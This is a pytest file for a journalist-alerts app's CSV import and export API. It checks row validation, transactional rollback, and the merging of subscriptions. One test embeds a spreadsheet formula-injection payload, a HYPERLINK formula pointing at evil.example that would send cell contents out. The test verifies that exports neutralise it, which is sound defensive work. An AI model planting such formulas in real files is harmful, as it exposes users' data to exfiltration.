"""The journalist CSV through the real app, on SQLite and PostgreSQL: strict, and safe to open.

Every bad row is a 422 naming its line (never a 500), nothing is written when
any row is bad, and what an import does to known journalists is unchanged.
"""

from __future__ import annotations

import csv
import io
import uuid
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

import psycopg
import pytest
from fastapi.testclient import TestClient
from sqlalchemy import func, select
from sqlalchemy.orm import Session, sessionmaker

from alerts.audience.membership import address_hasher
from alerts.core.migrate import upgrade
from alerts.core.models import Journalist, JournalistStatus, Subscription, Suppression, utcnow
from alerts.core.settings import load_settings
from alerts.core.taxonomy import regions
from alerts.staff.keys import create_key
from alerts.web import create_app
from alerts.worker.app import create_celery
from tests.conftest import PG_ADMIN_URL, PG_HOST, SECRET
from tests.factories import journalist

HEADER = "email,name,outlet,countries,topics,cadence\n"


@dataclass
class Api:
    client: TestClient
    sessions: sessionmaker[Session]
    auth: dict[str, str]

    def post(self, body: str | bytes) -> tuple[int, dict[str, object]]:
        response = self.client.post("/api/journalists/import", content=body, headers=self.auth)
        payload: dict[str, object] = response.json()
        return response.status_code, payload

    def count(self, model: type) -> int:
        with self.sessions() as session:
            return session.scalar(select(func.count()).select_from(model)) or 0


@pytest.fixture(params=["sqlite", "postgres"])
def api(request: pytest.FixtureRequest, tmp_path: Path) -> Iterator[Api]:
    database_url = f"sqlite:///{tmp_path / 'alerts.db'}"
    name = f"alerts_csv_{uuid.uuid4().hex[:8]}"
    if request.param == "postgres":
        with psycopg.connect(PG_ADMIN_URL, autocommit=True) as conn:
            conn.execute(f'CREATE DATABASE "{name}"')
        database_url = f"postgresql+psycopg://{PG_HOST}/{name}"
    try:
        settings = load_settings(
            data_dir=str(tmp_path), database_url=database_url, secret_key=SECRET
        )
        upgrade(settings.database_url)
        app = create_celery(settings)
        sessions = app.runtime.sessions
        with sessions() as session:
            key = create_key(session, "desk", "publisher", utcnow())[1]
            session.commit()
        auth = {"Authorization": f"Bearer {key}", "Content-Type": "text/csv"}
        with TestClient(create_app(app), base_url=settings.base_url) as client:
            yield Api(client, sessions, auth)
        app.runtime.dispose()
    finally:
        if request.param == "postgres":
            with psycopg.connect(PG_ADMIN_URL, autocommit=True) as conn:
                conn.execute(f'DROP DATABASE IF EXISTS "{name}" WITH (FORCE)')


def _problems(payload: dict[str, object]) -> list[dict[str, object]]:
    detail = payload["detail"]
    assert isinstance(detail, list)
    return detail


def test_a_short_row_or_an_unclosed_quote_is_refused_and_nothing_is_written(api: Api) -> None:
    assert api.post(HEADER + "kept@example.net,Kept,Desk,MX,asylum,daily\n")[0] == 200
    status, payload = api.post(
        HEADER
        + "good@example.net,Good,Outlet,MX,asylum,immediate\n"
        + "short@example.com\n"
        + 'quote@example.net,"Unclosed,Outlet,MX,asylum,immediate\n'
        + "after@example.net,After,Outlet,,,\n"
    )
    assert status == 422, payload
    problems = _problems(payload)
    assert problems[0]["line"] == 3 and problems[0]["column"] is None
    assert "fewer fields than columns (1, the header has 6)" in str(problems[0]["message"])
    assert problems[1]["line"] == 4 and "malformed CSV" in str(problems[1]["message"])
    assert payload["total"] == 2 and payload["bad_rows"] == 2
    # Nothing of the failed file was stored, and what was there is intact.
    with api.sessions() as session:
        emails = set(session.scalars(select(Journalist.email)))
        assert emails == {"kept@example.net"}
        assert session.scalar(select(func.count()).select_from(Subscription)) == 1


def test_field_lengths_follow_the_model_and_a_huge_field_is_a_422(api: Api) -> None:
    name_limit = Journalist.__table__.c.name.type.length  # type: ignore[attr-defined]
    status, payload = api.post(HEADER + f"long@example.net,{'n' * 10_000},Outlet,,,\n")
    assert status == 422, payload
    [problem] = _problems(payload)
    assert problem["line"] == 2 and problem["column"] == "name"
    assert problem["message"] == f"name is longer than {name_limit} characters (10000)"

    huge = "x" * (2 * 1024 * 1024)
    status, payload = api.post(
        HEADER + "ok@example.net,Ok,,,,\n" + f'big@example.net,"{huge}",Outlet,,,\n'
    )
    assert status == 422, payload
    assert [p["line"] for p in _problems(payload)] == [3]
    status, payload = api.post(HEADER + f"{huge}@example.net,,,,,\n")
    assert status == 422 and _problems(payload)[0]["line"] == 2
    assert api.count(Journalist) == 0


def test_every_problem_of_every_row_is_reported_up_to_a_cap(api: Api) -> None:
    rows = "".join(f"bad{n}@,Name,Outlet,XX,asylum,hourly\n" for n in range(150))
    status, payload = api.post(HEADER + "fine@example.net,,,,,\n" + rows)
    assert status == 422
    problems = _problems(payload)
    assert len(problems) == 100 and payload["total"] == 450 and payload["bad_rows"] == 150
    assert [(p["line"], p["column"]) for p in problems[:3]] == [
        (3, "email"),
        (3, "countries"),
        (3, "cadence"),
    ]
    assert problems[3]["line"] == 4
    assert str(problems[0]["msg"]).startswith("line 3: invalid email address 'bad0@'")
    assert api.count(Journalist) == 0


def test_text_that_is_not_utf8_is_a_422_with_its_line(api: Api) -> None:
    body = (HEADER + "a@example.net,Ana,,,,\n").encode() + b"b@example.net,B\xe9atrice,,,,\n"
    status, payload = api.post(body)
    assert status == 422
    [problem] = _problems(payload)
    assert problem["line"] == 3 and "not UTF-8" in str(problem["message"])
    assert api.count(Journalist) == 0


def test_an_import_keeps_what_it_always_did(api: Api) -> None:
    hasher = address_hasher(SECRET)
    with api.sessions() as session:
        pending = journalist(session, "pend@example.net", (["MX"], ["asylum"]))
        pending.status, pending.name, pending.outlet = JournalistStatus.PENDING, "Old", "Paper"
        journalist(session, "act@example.net", (["US", "MX"], [], "weekly"))
        journalist(session, "gone@example.net", ([], []), status=JournalistStatus.UNSUBSCRIBED)
        session.add(Suppression(email="supp@example.net", reason="hard bounce"))
        session.add(Suppression(email=hasher("erased@example.net"), reason="erased"))
        session.commit()
    status, summary = api.post(
        HEADER
        + "pend@example.net,New,,mx,Asylum,immediate\n"  # has it already
        + "pend@example.net,Other,Other outlet,,,daily\n"  # the first row decides the name
        + "act@example.net,,,us;MX,,weekly\n"  # has it already, in another order
        + "act@example.net,,,americas,,\n"
        + "gone@example.net,,,,,\n"
        + "supp@example.net,,,,,\n"
        + "erased@example.net,,,,,\n"
        + "New@Example.net,Nia,Wire,,,\n"
        + "new@example.net,Nia,Wire,,,\n"  # the same subscription twice
    )
    assert status == 200, summary
    assert summary == {
        "journalists_created": 1,
        "journalists_updated": 2,
        "subscriptions_added": 3,
        "skipped": [
            "line 6: gone@example.net unsubscribed or suppressed",
            "line 7: supp@example.net unsubscribed or suppressed",
            "line 8: erased@example.net unsubscribed or suppressed",
        ],
    }
    with api.sessions() as session:
        people = {j.email: j for j in session.scalars(select(Journalist))}
        pend, act, new = (people[f"{n}@example.net"] for n in ("pend", "act", "new"))
        assert (pend.status, pend.name, pend.outlet) == ("active", "New", "Paper")
        assert pend.confirmed_at is not None
        assert sorted((s.cadence, s.countries, s.topics) for s in pend.subscriptions) == [
            ("daily", [], []),
            ("immediate", ["MX"], ["asylum"]),
        ]
        americas = sorted(regions()["americas"][1])
        assert sorted((s.cadence, s.countries) for s in act.subscriptions) == [
            ("immediate", americas),
            ("weekly", ["MX", "US"]),
        ]
        assert [s.all_countries for s in act.subscriptions] == [False, False]
        assert (new.status, new.name, new.outlet, new.language, new.timezone) == (
            "active",
            "Nia",
            "Wire",
            "en",
            "UTC",
        )
        assert [(s.all_countries, s.all_topics) for s in new.subscriptions] == [(True, True)]
        assert people["gone@example.net"].status == "unsubscribed"
        assert "supp@example.net" not in people and "erased@example.net" not in people
    again = api.post(HEADER + "new@example.net,,,,,\nact@example.net,,,MX;US,,weekly\n")[1]
    assert again["subscriptions_added"] == 0 and again["journalists_updated"] == 2


def test_the_export_is_safe_to_open_in_a_spreadsheet(api: Api) -> None:
    evil = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    with api.sessions() as session:
        journalist(session, "-dash@example.net", ([], []))
        session.commit()
    body = io.StringIO()
    writer = csv.writer(body)
    writer.writerow(HEADER.strip().split(","))
    writer.writerows(
        [
            ["eve@example.net", evil, "+1 Outlet", "", "", ""],
            ["amy@example.net", "@amy", "-Minus", "MX", "", "daily"],
        ]
    )
    assert api.post(body.getvalue())[0] == 200
    exported = api.client.get("/api/journalists/export", headers=api.auth)
    rows = {row[0]: row for row in csv.reader(io.StringIO(exported.text))}
    assert rows["eve@example.net"][1:3] == ["'" + evil, "'+1 Outlet"]
    assert rows["amy@example.net"][1:3] == ["'@amy", "'-Minus"]
    assert rows["'-dash@example.net"][0] == "'-dash@example.net"
    for row in rows.values():
        assert not row[0].startswith(("=", "+", "-", "@", "\t", "\r"))
        assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row)
    # Still re-importable as it is: the quote is taken off again.
    again = api.post(exported.text)[1]
    assert again["subscriptions_added"] == 0, again
    with api.sessions() as session:
        names = set(session.scalars(select(Journalist.name)))
    assert evil in names and "@amy" in names


def test_language_and_timezone_columns_import_and_export(api: Api) -> None:
    with api.sessions() as session:
        known = journalist(session, "known@example.net", ([], []))
        known.language, known.timezone = "es", "America/Mexico_City"
        session.commit()
    wide = "email,name,outlet,countries,topics,cadence,language,timezone\n"
    status, summary = api.post(
        wide
        + "ana@example.net,Ana,,MX,,,ES,Europe/Madrid\n"  # a language code in capitals
        + "bo@example.net,Bo,,,,,,\n"  # empty cells: the defaults
        + "known@example.net,,,,,,,\n"  # empty cells keep what a journalist has
    )
    assert status == 200, summary
    with api.sessions() as session:
        people = {j.email: (j.language, j.timezone) for j in session.scalars(select(Journalist))}
    assert people == {
        "ana@example.net": ("es", "Europe/Madrid"),
        "bo@example.net": ("en", "UTC"),
        "known@example.net": ("es", "America/Mexico_City"),
    }
    # The columns in another order, and a file from before them, still import.
    assert (
        api.post(
            "timezone,email,name,outlet,countries,topics,cadence\n"
            "Asia/Tokyo,known@example.net,,,,,\n"
        )[0]
        == 200
    )
    assert api.post(HEADER + "ana@example.net,,,,,\n")[0] == 200
    with api.sessions() as session:
        people = {j.email: (j.language, j.timezone) for j in session.scalars(select(Journalist))}
    assert people["known@example.net"] == ("es", "Asia/Tokyo")
    assert people["ana@example.net"] == ("es", "Europe/Madrid")

    exported = api.client.get("/api/journalists/export", headers=api.auth)
    rows = list(csv.DictReader(io.StringIO(exported.text)))
    assert {(r["email"], r["language"], r["timezone"]) for r in rows} == {
        ("ana@example.net", "es", "Europe/Madrid"),
        ("bo@example.net", "en", "UTC"),
        ("known@example.net", "es", "Asia/Tokyo"),
    }
    again = api.post(exported.text)[1]
    assert again["subscriptions_added"] == 0, again


def test_a_bad_language_or_timezone_is_a_row_error_and_nothing_is_written(api: Api) -> None:
    with api.sessions() as session:
        journalist(session, "kept@example.net", ([], []))
        session.commit()
    wide = "email,name,outlet,countries,topics,cadence,language,timezone\n"
    status, payload = api.post(
        wide
        + "good@example.net,Good,,,,,es,Europe/Paris\n"
        + "kept@example.net,,,,,,xx,UTC\n"
        + "zone@example.net,,,,,,en,Mars/Olympus\n"
        + f"long@example.net,,,,,,en,{'Z' * 100}\n"
    )
    assert status == 422, payload
    problems = _problems(payload)
    assert [(p["line"], p["column"]) for p in problems] == [
        (3, "language"),
        (4, "timezone"),
        (5, "timezone"),
    ]
    assert "unknown language 'xx'" in str(problems[0]["message"])
    assert "Mars/Olympus" in str(problems[1]["message"])
    assert "longer than 64 characters" in str(problems[2]["message"])
    with api.sessions() as session:
        people = {j.email: (j.language, j.timezone) for j in session.scalars(select(Journalist))}
    assert people == {"kept@example.net": ("en", "UTC")}
